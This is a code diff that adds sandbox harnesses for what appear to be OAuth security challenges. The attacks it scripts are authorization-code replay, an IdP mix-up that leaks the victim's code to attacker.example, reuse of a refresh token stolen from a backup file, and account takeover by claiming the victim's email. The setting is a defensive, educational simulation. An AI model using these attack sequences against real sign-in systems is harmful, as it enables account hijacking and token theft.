@@ -1,6 +1,13 @@
 // The sandboxes of the challenges, as the attacks want them.
 import { SandboxPlay } from './sandbox-play'
-import type { CodeTarget, SignInTarget } from './target'
+import type {
+  AnswerTarget,
+  CodeTarget,
+  RefreshTarget,
+  SignInTarget,
+  TakeoverTarget,
+  TwoProvidersTarget,
+} from './target'
 
 const CAMPUS = 'https://campus.example'
 
@@ -59,5 +66,80 @@ export function codeSandbox(
       const { name } = json()
       return name === 'Alice' ? 'victim' : name === 'Mallory' ? 'attacker' : null
     },
+  }
+}
+
+const IDP = 'https://idp.example'
+
+/** From the application's own start to the attacker's session, with whichever code. */
+async function openWithCode(play: SandboxPlay, callback: string, code: string): Promise<void> {
+  const { location: asked } = await play.send(`${CAMPUS}/login/idp`)
+  const query = new URLSearchParams({ code, iss: IDP, state: asked?.searchParams.get('state') ?? '' })
+  await play.send(`${CAMPUS}${callback}?${query}`)
+}
+
+export function replaySandbox(guarded: boolean): AnswerTarget {
+  const play = new SandboxPlay('code-replay', guarded)
+  return {
+    usedAnswer: async () => {
+      const { arrivals } = await play.act('sign-in')
+      const [, referer = ''] = arrivals.at(-1)?.headers.find(([name]) => name === 'referer') ?? []
+      return new URL(referer)
+    },
+    openWithCode: (code) => openWithCode(play, '/callback/idp', code),
+    isAttackerInVictimsAccount: async () => (await play.view()).isWon,
+  }
+}
+
+export function mixUpSandbox(guarded: boolean): TwoProvidersTarget {
+  const play = new SandboxPlay('mix-up', guarded)
+  return {
+    codeThatLeaks: async () => {
+      const query = `response_type=code&client_id=campus&redirect_uri=${CAMPUS}/callback&state={state}`
+      const body = `${IDP}/authorize?${query}`
+      await play.send('https://attacker.example/authorize', { method: 'PUT', body })
+      const { arrivals } = await play.act('sign-in')
+      const tokenRequest = arrivals.find(({ url }) => url === 'https://attacker.example/token')
+      return new URLSearchParams(tokenRequest?.body).get('code')
+    },
+    openWithCode: (code) => openWithCode(play, '/callback', code),
+    isAttackerInVictimsAccount: async () => (await play.view()).isWon,
+  }
+}
+
+export function refreshSandbox(guarded: boolean): RefreshTarget {
+  const play = new SandboxPlay('refresh-without-rotation', guarded)
+  return {
+    stolen: async () =>
+      String((await play.send('https://backups.example/alice/planner.json')).json().refresh_token),
+    victimRefreshes: async () => void (await play.act('open')),
+    refresh: async (refresh_token) => {
+      const fields = { grant_type: 'refresh_token', client_id: 'planner', refresh_token }
+      const { status, json } = await play.form(`${CAMPUS}/oauth/token`, fields)
+      return status === 200 ? { accessToken: String(json().access_token) } : null
+    },
+    isVictims: async (token) => {
+      await play.send(`${CAMPUS}/api/me`, { headers: [['authorization', `Bearer ${token}`]] })
+      return (await play.view()).isWon
+    },
+  }
+}
+
+export function takeoverSandbox(id: 'silent-link' | 'pre-registered', guarded: boolean): TakeoverTarget {
+  const play = new SandboxPlay(id, guarded)
+  const email = 'alice@campus.example'
+  return {
+    victimSignsIn: async () => void (id === 'pre-registered' && (await play.act('join'))),
+    claimEmail: async () => {
+      if (id === 'pre-registered') await play.form(`${CAMPUS}/accounts`, { email })
+      else await play.send(`${IDP}/profile`, { method: 'PATCH', body: `email=${email}` })
+    },
+    attackerSignsIn: async () => {
+      if (id === 'pre-registered') return
+      const { location: asked } = await play.send(`${CAMPUS}/login/idp`)
+      const { location: answer } = await play.send(asked ?? '')
+      await play.send(answer ?? '')
+    },
+    isAttackerInVictimsAccount: async () => (await play.view()).isWon,
   }
 }
